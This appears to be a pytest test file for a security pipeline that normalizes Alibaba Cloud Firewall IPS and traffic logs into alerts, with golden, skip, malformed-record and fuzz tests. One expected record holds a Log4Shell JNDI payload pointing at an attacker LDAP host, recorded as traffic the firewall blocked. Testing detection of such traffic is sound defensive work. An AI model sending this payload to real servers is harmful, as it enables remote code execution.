"""Alibaba Cloud Firewall IPS / traffic logs: golden alerts, skips, malformed records, fuzz."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings

from pipeline.normalize.base import Skipped

from ._cloud import assert_bad, edit, golden, records, whole
from .conftest import check_contract, json_mutated, mutated, normalize_one

FMT = "alibaba_cloudfw"
RECS = records(FMT)
LOG4J_DROP, MINING_ALERT, ACL_DROP, TRAFFIC, VPC_BRUTE = RECS
SOURCE = {"product": "Alibaba Cloud Firewall", "vendor": "Alibaba Cloud", "family": "firewall", "format": FMT}
LOG4J = "Apache Log4j2 remote code execution vulnerability (CVE-2021-44228)"


def test_ips_drop_inbound_exploit():
    rule = {"id": "3101c8bd-6d2a-4f6b-9d0e-2e0c1a5b7f41", "name": LOG4J, "category": "Command Execution",
            "tags": ["internet_log", "in"], "severity": "high"}
    assert golden(FMT, LOG4J_DROP) == {
        "source": SOURCE, "time": "2025-11-24T16:10:01Z", "severity": {"label": "high", "score": 75},
        "rule": rule, "rules": [rule], "action": "blocked",
        "message": f"Alibaba Cloud Firewall drop {LOG4J} 198.51.100.23:41822 -> 47.98.10.20:8080",
        "src": {"ip": "198.51.100.23", "port": 41822}, "dst": {"ip": "47.98.10.20", "port": 8080},
        "host": {"ip": "47.98.10.20"}, "network": {"proto": "tcp", "bytes": 7960, "packets": 22},
        "extra": {"log_type": "internet_log", "direction": "in", "rule_source": "2", "vul_level": "3",
                  "attack_type_name": "命令执行", "app_name": "HTTP",
                  "url": "/api/login?user=${jndi:ldap://198.51.100.23:1389/a}", "aliuid": "1233333333****",
                  "region_id": "cn-hangzhou", "country_id": "NL"},
    }


def test_ips_alert_outbound_mining_is_detected_on_the_source_asset():
    d = golden(FMT, MINING_ALERT)
    assert (d["action"], d["severity"]["label"], d["rule"]["category"], d["rule"]["name"]) == (
        "detected", "medium", "Mining Behavior", "Mining program communication")
    assert (d["src"], d["dst"], d["host"]) == (
        {"ip": "172.16.5.23", "port": 48124}, {"ip": "203.0.113.88", "port": 14444}, {"ip": "172.16.5.23"})
    assert d["extra"]["cloud_instance_id"] == "i-bp1d5bx2orlw1p2wn****"


def test_vpc_ips_log_and_time_fallback():
    d = golden(FMT, VPC_BRUTE)
    assert (d["time"], d["action"], d["rule"]["tags"], d["extra"]["firewall_id"]) == (
        "2025-11-24T16:14:50Z", "blocked", ["vpc_ips_log"], "vfw-bp1e0d8e7f6c5b4a****")
    [a] = normalize_one(FMT, edit(VPC_BRUTE, lambda d: d.pop("start_time")))
    assert a.time.isoformat() == "2025-11-24T16:15:00+00:00"  # __time__


def test_generic_rule_fields_and_text_levels():
    def generic(d: dict) -> None:
        for k in ("ips_rule_id", "ips_rule_name_en", "attack_type_name_en"):
            d.pop(k)
        d.update(rule_id="1002", rule_name="SSH brute force", attack_type="Brute Force", vul_level="low",
                 proto="TCP")
        d.pop("ip_protocol")

    [a] = normalize_one(FMT, edit(VPC_BRUTE, generic))
    assert (a.rule.id, a.rule.name, a.rule.category, a.severity.label, a.network.proto) == (
        "1002", "SSH brute force", "Brute Force", "low", "tcp")


@pytest.mark.parametrize(("line", "reason"), [(ACL_DROP, "acl"), (TRAFFIC, "traffic")])
def test_sessions_without_ips_rule_are_skipped(line, reason):
    with pytest.raises(Skipped) as e:
        normalize_one(FMT, line)
    assert e.value.reason == reason


def test_whole_fixture_file():
    r = whole(FMT)
    assert (r.records, len(r.alerts), len(r.dead)) == (5, 3, 0)
    assert dict(r.skipped) == {"alibaba_cloudfw:acl": 1, "alibaba_cloudfw:traffic": 1}


@pytest.mark.parametrize(("change", "reason", "field"), [
    (lambda d: d.pop("rule_result"), "missing_field", "rule_result"),
    (lambda d: d.update(rule_result="reject"), "bad_field", "rule_result"),
    (lambda d: d.update(vul_level="9"), "bad_field", "vul_level"),
    (lambda d: d.pop("src_ip"), "missing_field", "src_ip"),
    (lambda d: d.update(dst_ip="47.98.XX.XX"), "bad_ip", "dst_ip"),
    (lambda d: d.update(dst_port="http"), "bad_field", "dst_port"),
    (lambda d: d.update(start_time="2025-11-24"), "bad_field", "start_time"),
    (lambda d: [d.pop("start_time"), d.pop("__time__")], "missing_field", "__time__"),
    (lambda d: d.update(ips_rule_name_en={"en": "x"}), "bad_field", "ips_rule_name_en"),
])
def test_malformed_records_are_dead_letters(change, reason, field):
    assert_bad(FMT, edit(LOG4J_DROP, change), reason, field)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated(RECS) | json_mutated(RECS))
def test_fuzz_only_alerts_skips_or_bad_records(text):
    check_contract(FMT, text)
